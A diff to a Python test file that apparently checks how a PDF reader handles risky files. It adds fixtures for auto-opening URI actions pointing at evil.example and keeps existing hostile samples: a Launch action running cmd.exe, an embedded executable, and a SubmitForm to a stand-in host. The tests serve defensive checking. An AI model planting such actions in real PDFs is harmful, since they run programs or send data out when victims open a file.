@@ -28,8 +28,15 @@ def written(writer: PdfWriter) -> bytes:
 
 @pytest.mark.parametrize(
     "content",
-    [pdf(), pdf(catalog=b"/OpenAction[3 0 R/Fit]"), encoded(drawn(), "PDF"), pdf_of_streams(b"[3 0 R/Fit]")],
-    ids=["plain", "opens at a page", "a scan", "in streams"],
+    [
+        pdf(),
+        pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
+        pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=b"/OpenAction 4 0 R"),
+        pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://heat.example)>>>>"),
+        encoded(drawn(), "PDF"),
+        pdf_of_streams(b"[3 0 R/Fit]"),
+    ],
+    ids=["plain", "opens at a page", "goes to a page", "with a link", "a scan", "in streams"],
 )
 def test_pages_are_kept_as_they_came(content: bytes) -> None:
     made = read(content)
@@ -45,6 +52,9 @@ def test_pages_are_kept_as_they_came(content: bytes) -> None:
         pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 4 0 R"),
         pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", b"<</Length 1>>\nstream\nx\nendstream"),
         pdf(b"<</S/SubmitForm/F(http://evil.example)>>", catalog=b"/OpenAction 4 0 R"),
+        pdf(b"<</S/URI/URI(http://evil.example)>>", catalog=b"/OpenAction 4 0 R"),
+        pdf(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>", catalog=b"/OpenAction 4 0 R"),
+        pdf(catalog=b"/AA<</WC<</S/URI/URI(http://evil.example)>>>>"),
         pdf(catalog=b"/AcroForm<</XFA[(a)(b)]>>"),
         pdf(b"<</S/GoToE/F(a.pdf)>>"),
         pdf(b"<</Subtype/RichMedia>>"),
